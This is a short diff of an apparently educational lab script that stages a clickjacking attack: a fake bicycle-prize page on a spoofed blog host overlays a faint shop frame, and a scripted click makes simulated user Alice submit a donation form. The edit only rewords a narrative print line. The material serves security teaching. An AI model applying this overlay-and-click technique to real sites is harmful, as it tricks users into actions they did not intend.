@@ -37,7 +37,7 @@ def attack(lab: Lab) -> str:
         alice.get("/donate")
         with lab.browser(alice) as page:
             page.goto(evil.page(PAGE.format(url=shop.url, opacity=0.3)).replace("attacker.test", "blog.shop.test"))
-            print("Alice opens a page of blog.shop.test: she has won a bicycle. The picture shows the frame, a bit.")
+            print("Alice opens a page of blog.shop.test: she has won a bicycle. (The picture shows the frame faintly.)")
             page.mouse.click(80, 126)
             print("She clicks.")
             page.wait_for_timeout(700)  # milliseconds for the frame to send its form
